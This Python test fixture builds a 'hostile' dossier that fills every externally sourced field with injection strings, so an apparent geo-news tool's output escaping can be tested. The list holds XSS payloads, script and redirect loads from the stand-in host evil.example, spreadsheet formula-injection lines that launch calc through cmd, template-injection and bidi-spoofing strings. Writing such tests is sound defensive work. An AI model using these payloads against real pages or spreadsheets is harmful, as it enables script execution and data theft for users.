"""Text that must be shown and never obeyed; each would call `alert`, leave the page, or rearrange it."""

from __future__ import annotations

from datetime import UTC, datetime

from handmade import handmade

from geo.model import Article, Attribution, Candidate, Check, Dossier, Event, Mention, Place, Span, Unplaced, Window

PAYLOADS = [
    "<script>alert(1)</script>", "<ScRiPt>alert(2)</sCrIpT>", "<script src=//evil.example/x.js></script>",
    "</script><script>alert(3)</script>", "<script>alert`4`</script>", "<svg><script>alert(5)</script></svg>",
    "<img src=x onerror=alert(6)>", "<img src='x' onerror='alert(7)'/>", "<IMG SRC=x OnErRoR=alert(8)>",
    '"><img src=x onerror=alert(9)>', "'><img src=x onerror=alert(10)>", "<img src=x:alert(11) onerror=eval(src)>",
    "<svg onload=alert(12)>", "<svg/onload=alert(13)>", "<body onload=alert(14)>", "<iframe src=javascript:alert(15)>",
    '<iframe srcdoc="<script>parent.alert(16)</script>">', "<object data=javascript:alert(17)>",
    "<embed src=javascript:alert(18)>", "<a href=javascript:alert(19)>here</a>",
    "<a href='JaVaScRiPt:alert(20)'>here</a>",
    "javascript:alert(21)", "javascript:/*--></title></style></textarea></script><svg/onload=alert(22)>//",
    "<details open ontoggle=alert(23)>", "<input autofocus onfocus=alert(24)>", "<select autofocus onfocus=alert(25)>",
    "<video><source onerror=alert(26)></video>", "<audio src=x onerror=alert(27)>", "<marquee onstart=alert(28)>",
    "<div onpointerover=alert(29)>over</div>", "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/a)}</style>", "</style><script>alert(30)</script>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>", "<form action=//evil.example><button>go</button></form>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(31)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(32)>'>",
    "<template><img src=x onerror=alert(33)></template>",
    "<!--><img src=x onerror=alert(34)>", "<![CDATA[<img src=x onerror=alert(35)>]]>", "]]><script>alert(36)</script>",
    "x' onmouseover='alert(37)", 'x" onmouseover="alert(38)', "x` onmouseover=`alert(39)",
    "${alert(40)}", "{{constructor.constructor('alert(41)')()}}", "#{alert(42)}", "<%= alert(43) %>",
    "@@=alert(44)", "@@#window.alert", "__proto__", "constructor",
    "[here](javascript:alert(45))", "![picture](https://evil.example/a.png)", "![x](x 'onerror=alert(46)')",
    "<https://evil.example>", "[ref]: https://evil.example", "**bold** _it_ `code` ~~gone~~ # head",
    "$\\href{javascript:alert(47)}{x}$",
    ":red[red] :material/delete: :smile:", "| a | b |\n|---|---|\n| 1 | 2 |", "---\nmalice: true\n---",
    "&lt;script&gt;alert(48)&lt;/script&gt;", "&#60;img src=x onerror=alert(49)&#62;",
    "&#x3C;svg onload=alert(50)&#x3E;",
    "&quot;&gt;&lt;img src=x onerror=alert(51)&gt;", "\\u003cimg src=x onerror=alert(52)\\u003e",
    "%3Cscript%3Ealert(53)%3C/script%3E",
    "expression(alert(54))", "color:red;background:url(javascript:alert(55))", "}*{display:none}", "';alert(56);//",
    '";alert(57);//',
    "\u202egnp.exe", "\u2066isolate\u2069 \u2067right\u2069", "\u200f\u200eא שלום", "\u202d left \u202c",
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","here")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "  =1+1", "'=1+1", '"=1+1', "a;=1+1;b", "a\t=1+1", "a|=1+1",
    "a\n=1+1",
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff201+1", "\u200b=1+1", "\ufeff=1+1", 'a";"=1+1', 'a,"=1+1',
    "evil.example", "www.evil.example", "See evil.example/path?a=b now", "//evil.example/x", "http://evil.example",
    "ftp://evil.example", "mailto:somebody@evil.example", "somebody@evil.example", "www.evil.example.",
    "(evil.example)",
    "data:text/html,<script>alert(58)</script>", "vbscript:alert(59)", "java\nscript:alert(60)",
    "&#106;avascript:alert(61)",
    "```\n<script>alert(62)</script>\n```", "~~~html", "1. one", "1) one", "+ plus", "> said", "===", "    indented",
    "![x](//evil.example/a.png)", "[x]: javascript:alert(63)", '<a href="data:text/html,x">x</a>', "$[description]",
    "<![CDATA[", "]]>", "<name>x</name>", "</name></Placemark>", "&lt;![CDATA[x]]&gt;",
    "<!DOCTYPE x [<!ENTITY y 'z'>]>&y;",
    "😀<b>𝔘nicode</b> ﷽", "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306" * 6,
]  # fmt: skip

ALL = " ".join(PAYLOADS)


def hostile() -> Dossier:
    """Return the hand-made dossier with payloads wherever a text can come from outside."""
    base = handmade()
    at = lambda n: PAYLOADS[n % len(PAYLOADS)]  # noqa: E731 - read like an index
    text = "\n".join(PAYLOADS)
    places = [
        p.model_copy(update={"name": at(i * 3), "local_name": at(i * 3 + 1), "admin1": at(i * 3 + 2)})
        for i, p in enumerate(base.places)
    ]
    places += [
        Place(id=f"x:{payload[:30]}", name=payload, lat=40 + n / 40, lon=127 + n / 30, feature="PPL", source=payload)
        for n, payload in enumerate(PAYLOADS)
    ]
    mentions, start = [], 0
    for n, payload in enumerate(PAYLOADS):
        candidate = Candidate(place_id=f"x:{payload[:30]}", score=0.5, why=payload, name=payload, lat=1, lon=2)
        other = candidate.model_copy(update={"place_id": f"y{n}"})
        mentions.append(Mention(
            id=f"m{start}", start=start, end=start + len(payload), text=payload, kind="place",
            place_id=f"x:{payload[:30]}", candidates=(candidate, other),
        ))  # fmt: skip
        start += len(payload) + 1
    said = tuple(Attribution(source=p, chain=(p, "relay"), start=0, end=1) for p in PAYLOADS[:5])
    window = Window(earliest=datetime(2023, 9, 10, 5, tzinfo=UTC), latest=datetime(2023, 9, 11, 5, tzinfo=UTC))
    events = [
        Event(id=f"e{n}", type="arrival", trigger=Span(start=0, end=5), actor=payload, place_id=places[n % 3].id,
              when=window if n % 9 == 0 else None, status="reported", attribution=said)
        for n, payload in enumerate(PAYLOADS)
    ]  # fmt: skip
    check = Check(name="distance", verdict="imprecise", explanation=ALL)
    figures = base.claims[0].quantities
    claim = base.claims[0].model_copy(update={
        "start": 0, "end": 20, "text": ALL, "headline": ALL, "hedge": at(3), "direction": at(5), "checks": (check,),
        "quantities": tuple(q.model_copy(update={"unit": at(6), "start": 0, "end": 5}) for q in figures),
    })  # fmt: skip
    warning = base.warnings[0].model_copy(update={"message": ALL})
    article = Article(id="h", sha256="0" * 64, title=ALL, source=ALL, url="javascript:alert(99)", text=text)
    traveller = base.travellers[0].model_copy(update={"name": at(0), "vehicle": at(6)})
    return base.model_copy(update={
        "article": article, "places": tuple(places), "mentions": tuple(mentions), "events": tuple(events),
        "claims": (claim,), "times": (), "warnings": (warning,), "travellers": (traveller,),
        "unplaced": (Unplaced(why=ALL), Unplaced(mention_id=mentions[0].id, why=at(6))),
    })  # fmt: skip
